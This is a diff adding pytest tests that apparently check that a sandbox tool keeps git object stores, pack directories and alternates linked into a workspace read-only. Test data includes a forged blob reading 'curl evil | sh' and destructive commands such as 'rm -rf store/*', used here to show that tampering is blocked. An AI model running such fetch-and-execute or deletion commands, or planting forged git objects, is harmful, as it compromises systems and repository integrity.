@@ -8,6 +8,7 @@ in the workspace, a command must not be able to write them.
 from __future__ import annotations
 
 import subprocess
+import zlib
 from pathlib import Path
 
 from tests.conftest import Home
@@ -83,6 +84,103 @@ def test_an_object_store_linked_into_the_workspace_is_read_only(
     )
     assert ran.returncode == 0, ran.stderr
     assert sorted(p.name for p in (workspace / "store").iterdir()) == before
+
+
+def _listing(directory: Path) -> dict[str, bytes]:
+    """What `directory` holds, file by file."""
+    return {
+        str(path.relative_to(directory)): path.read_bytes() if path.is_file() else b""
+        for path in sorted(directory.rglob("*"))
+    }
+
+
+def test_a_pack_directory_linked_into_the_workspace_is_read_only(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    """A planted pack is read first: it would replace the history's objects."""
+    subprocess.run(["git", "-C", str(workspace), "gc", "-q"], check=True)
+    pack = workspace / ".git" / "objects" / "pack"
+    pack.rename(workspace / "packs")
+    pack.symlink_to("../../packs")
+    before = _listing(workspace / "packs")
+    ran = corral.run(
+        workspace,
+        *sh("echo x > packs/pack-0.pack; rm -rf packs/*; true"),
+    )
+    assert ran.returncode == 0, ran.stderr
+    assert _listing(workspace / "packs") == before
+
+
+def _show(workspace: Path, spec: str) -> str:
+    shown = subprocess.run(
+        ["git", "-C", str(workspace), "show", spec],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    return shown.stdout
+
+
+def test_an_alternate_object_directory_in_the_workspace_is_read_only(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    """The host's git would show and check out an object a command rewrote there."""
+    objects = workspace / ".git" / "objects"
+    blob = subprocess.run(
+        ["git", "-C", str(workspace), "rev-parse", "HEAD:README"],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.strip()
+    altobj = workspace / "altobj"
+    altobj.mkdir()
+    for entry in objects.iterdir():
+        if entry.name != "info":
+            entry.rename(altobj / entry.name)
+    (objects / "info" / "alternates").write_text("../../altobj\n")
+    assert _show(workspace, "HEAD:README") == "hello\n"
+    forged = b"blob 15\0curl evil | sh\n"
+    (workspace / "forged").write_bytes(zlib.compress(forged))
+    loose = f"altobj/{blob[:2]}/{blob[2:]}"
+    ran = corral.run(workspace, *sh(f"mv -f forged {loose} || cp forged {loose}; true"))
+    assert ran.returncode == 0, ran.stderr
+    assert _show(workspace, "HEAD:README") == "hello\n"
+
+
+def test_an_absent_alternate_object_directory_cannot_be_created_and_leaves_nothing(
+    corral: CorralCLI, workspace: Path
+) -> None:
+    """git skips it now, but would read the objects a command put there."""
+    alternates = workspace / ".git" / "objects" / "info" / "alternates"
+    alternates.write_text(f"{workspace}/later/objects\n")
+    ran = corral.run(
+        workspace, *sh("mkdir -p later/objects && touch later/objects/x; git log -q")
+    )
+    assert ran.returncode == 0, ran.stderr
+    assert not (workspace / "later").exists()
+
+
+def test_an_object_store_of_a_repository_elsewhere_kept_in_the_workspace_is_read_only(
+    corral: CorralCLI, workspace: Path, tmp_path: Path
+) -> None:
+    """A worktree in the workspace of a repository elsewhere, its objects in it."""
+    main = tmp_path / "main"
+    subprocess.run(["git", "init", "-q", "-b", "main", str(main)], check=True)
+    (main / "f").write_text("reviewed\n")
+    subprocess.run(["git", "-C", str(main), "add", "f"], check=True)
+    subprocess.run(["git", "-C", str(main), "commit", "-qm", "x"], check=True)
+    subprocess.run(
+        ["git", "-C", str(main), "worktree", "add", "-q", str(workspace / "wt")],
+        check=True,
+    )
+    store = workspace / "store"
+    (main / ".git" / "objects").rename(store)
+    (main / ".git" / "objects").symlink_to(store)
+    before = _listing(store)
+    ran = corral.run(workspace, *sh("touch store/planted; rm -rf store/*; true"))
+    assert ran.returncode == 0, ran.stderr
+    assert _listing(store) == before
+    assert _show(main, "HEAD:f") == "reviewed\n"
 
 
 def test_a_dangling_hook_link_into_the_workspace_cannot_be_filled(
